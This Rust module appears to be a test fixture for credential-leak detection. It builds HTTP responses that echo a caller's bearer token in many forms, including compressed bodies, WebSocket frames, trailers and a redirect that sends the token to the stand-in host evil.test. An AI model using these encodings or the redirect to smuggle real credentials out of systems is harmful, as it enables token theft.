//! Responses that show the credential to who asks, in the dress that the path names.

use std::fmt::Write as _;
use std::io::Write as _;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

/// The response to `GET /api/v4/echo_…`, byte for byte.
pub(super) fn response_to(head: &str) -> Option<Vec<u8>> {
    let path = head.split(' ').nth(1)?;
    let form = path.strip_prefix("/api/v4/echo_")?.split('?').next()?;
    let token = head.lines().find_map(|line| {
        let (name, value) = line.split_once(':')?;
        let is_it = name.eq_ignore_ascii_case("authorization");
        is_it.then(|| value.trim().trim_start_matches("Bearer ").to_owned())
    })?;
    Some(in_form(form, &token))
}

fn in_form(form: &str, token: &str) -> Vec<u8> {
    let field =
        |line: &str| format!("HTTP/1.1 200 OK\r\n{line}\r\ncontent-length: 0\r\n\r\n").into_bytes();
    let json = |text: String| {
        whole(
            "200 OK",
            "application/json",
            "",
            format!("{{\"told\":\"{text}\"}}").as_bytes(),
        )
    };
    let coded = |coding: &str, body: Vec<u8>| {
        whole(
            "200 OK",
            "application/json",
            &format!("content-encoding: {coding}\r\n"),
            &body,
        )
    };
    let padded = format!(
        "{{\"told\":\"{}{token}{}\"}}",
        "a".repeat(300),
        "z".repeat(300)
    );
    match form {
        "in_a_field" | "in_the_response_to_head" => field(&format!("x-told: Bearer {token}")),
        "in_a_cookie" => field(&format!("set-cookie: told={token}; Path=/")),
        "in_a_redirect" => {
            field(&format!("location: https://evil.test/?told={token}")).splice_status("302 Found")
        }
        "in_an_interim_response" => {
            let interim =
                format!("HTTP/1.1 103 Early Hints\r\nlink: </{token}>; rel=preload\r\n\r\n");
            [interim.into_bytes(), field("x-a: b")].concat()
        }
        "in_a_trailer" => {
            let head = chunked("application/json", "trailer: x-told\r\n");
            format!("{head}2\r\n{{}}\r\n0\r\nx-told: {token}\r\n\r\n").into_bytes()
        }
        "in_json" => json(token.to_owned()),
        "in_base64" => json(BASE64_STANDARD.encode(token)),
        "in_base64_behind_one_byte" => json(BASE64_STANDARD.encode(format!(":{token}:"))),
        "in_base64_behind_two_bytes" => json(BASE64_STANDARD.encode(format!("a:{token}:b"))),
        "in_hexadecimal" => json(token.bytes().fold(String::new(), |mut text, byte| {
            let _ = write!(text, "{byte:02x}");
            text
        })),
        "in_html" => whole(
            "200 OK",
            "text/html",
            "",
            format!("<input value=\"{token}\">").as_bytes(),
        ),
        "in_gzip" => coded("gzip", gzip(padded.as_bytes())),
        "in_deflate" => coded("deflate", zlib(padded.as_bytes())),
        "in_brotli" => coded("br", brotli(padded.as_bytes())),
        "in_zstd" => coded("zstd", zstd(padded.as_bytes())),
        "across_chunks" => pieces("application/json", &json_pieces(token)),
        "in_events" => pieces("text/event-stream", &event_pieces(token)),
        "in_a_websocket_message" => {
            let head = "HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n";
            let length = u8::try_from(token.len()).unwrap_or(125);
            [head.as_bytes(), &[0x81, length], token.as_bytes()].concat()
        }
        "in_an_error" => whole("403 Forbidden", "application/json", "", padded.as_bytes()),
        _ => field("x-unknown: form"),
    }
}

trait Status {
    fn splice_status(self, status: &str) -> Self;
}

impl Status for Vec<u8> {
    fn splice_status(self, status: &str) -> Self {
        let text = String::from_utf8_lossy(&self).replacen("200 OK", status, 1);
        text.into_bytes()
    }
}

fn whole(status: &str, content_type: &str, more: &str, body: &[u8]) -> Vec<u8> {
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: {content_type}\r\n{more}content-length: {length}\r\n\r\n"
    );
    [head.as_bytes(), body].concat()
}

fn chunked(content_type: &str, more: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\ncontent-type: {content_type}\r\n{more}transfer-encoding: chunked\r\n\r\n"
    )
}

fn pieces(content_type: &str, pieces: &[String]) -> Vec<u8> {
    let mut text = chunked(content_type, "");
    for piece in pieces {
        let _ = write!(text, "{:x}\r\n{piece}\r\n", piece.len());
    }
    (text + "0\r\n\r\n").into_bytes()
}

/// A byte each.
fn json_pieces(token: &str) -> Vec<String> {
    let text = format!("{{\"told\":\"{token}\"}}");
    text.chars().map(String::from).collect()
}

fn event_pieces(token: &str) -> Vec<String> {
    let (one, other) = token.split_at(token.len() / 2);
    vec![format!("data: {one}"), format!("{other}\n\n")]
}

fn gzip(plain: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let _ = encoder.write_all(plain);
    encoder.finish().unwrap_or_default()
}

fn zlib(plain: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    let _ = encoder.write_all(plain);
    encoder.finish().unwrap_or_default()
}

/// A metablock that is not compressed (RFC 7932 §9.2), for each half.
fn brotli(plain: &[u8]) -> Vec<u8> {
    let (one, other) = plain.split_at(plain.len() / 2);
    let mut stream = Vec::new();
    for (is_first, part) in [(true, one), (false, other)] {
        let length = u32::try_from(part.len() - 1).unwrap_or_default();
        // WBITS once, ISLAST, MNIBBLES, MLEN - 1, ISUNCOMPRESSED; low bits first.
        let shift = u32::from(is_first);
        let head = (length << (3 + shift)) | (1 << (19 + shift));
        stream.extend_from_slice(&head.to_le_bytes()[..3]);
        stream.extend_from_slice(part);
    }
    stream.push(0x03);
    stream
}

/// A frame with a raw block (RFC 8878 §3.1.1) for each half.
fn zstd(plain: &[u8]) -> Vec<u8> {
    let (one, other) = plain.split_at(plain.len() / 2);
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58];
    for (is_last, part) in [(0, one), (1, other)] {
        let head = u32::try_from(part.len()).unwrap_or_default() << 3 | is_last;
        frame.extend_from_slice(&head.to_le_bytes()[..3]);
        frame.extend_from_slice(part);
    }
    frame
}
